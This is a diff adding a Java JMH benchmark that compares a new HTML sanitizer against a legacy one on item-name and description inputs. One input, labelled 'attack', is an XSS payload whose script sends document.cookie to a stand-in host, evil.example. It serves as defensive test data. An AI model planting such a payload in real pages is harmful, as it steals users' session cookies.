@@ -0,0 +1,71 @@
+package com.app.heartbound.benchmarks;
+
+import com.app.heartbound.services.HtmlSanitizationService;
+import com.app.heartbound.services.HtmlSanitizationService.SanitizationPolicy;
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Level;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.Setup;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+
+import java.util.concurrent.TimeUnit;
+
+/**
+ * {@link HtmlSanitizationService#sanitize} per policy on inputs representative of item names
+ * and descriptions: plain text, chat-style text with characters the sanitizer encodes, text with
+ * markup to strip, and an injection attempt. {@code sanitizeLegacy} runs the same inputs through
+ * {@link LegacyHtmlSanitizer}, the OWASP and regular expression pipeline that STRICT and BASIC
+ * used before the scanner.
+ */
+@State(Scope.Benchmark)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 2)
+@Measurement(iterations = 5, time = 2)
+@Fork(value = 2, jvmArgsAppend = {"-Xms1g", "-Xmx1g"})
+public class HtmlSanitizationBenchmark {
+
+    @Param({"STRICT", "BASIC", "RICH"})
+    public SanitizationPolicy policy;
+
+    @Param({"plain", "chat", "markup", "attack"})
+    public String input;
+
+    private HtmlSanitizationService sanitizationService;
+    private LegacyHtmlSanitizer legacySanitizer;
+    private String text;
+
+    @Setup(Level.Trial)
+    public void setUp() {
+        sanitizationService = new HtmlSanitizationService();
+        legacySanitizer = new LegacyHtmlSanitizer();
+        text = switch (input) {
+            case "plain" -> "Midnight Aurora Badge - awarded for keeping a pairing alive through a full season!";
+            case "chat" -> "Can't believe we're level 12 already!! <3 thanks @mika for the 5+ hours in voice \uD83C\uDF89";
+            case "markup" -> "<p>The <b>Midnight Aurora</b> badge, awarded for keeping a pairing alive"
+                + " through a <i>full season</i>.<br>Limited to 100 copies.</p>";
+            case "attack" -> "Aurora<img src=x onerror=alert(1)><script>fetch('//evil.example/'+document.cookie)</script>";
+            default -> throw new IllegalArgumentException("Unknown input " + input);
+        };
+        if (!sanitize().equals(sanitizeLegacy())) {
+            throw new IllegalStateException("Sanitized " + input + " input differs from the legacy output");
+        }
+    }
+
+    @Benchmark
+    public String sanitize() {
+        return sanitizationService.sanitize(text, policy);
+    }
+
+    @Benchmark
+    public String sanitizeLegacy() {
+        return legacySanitizer.sanitize(text, policy);
+    }
+}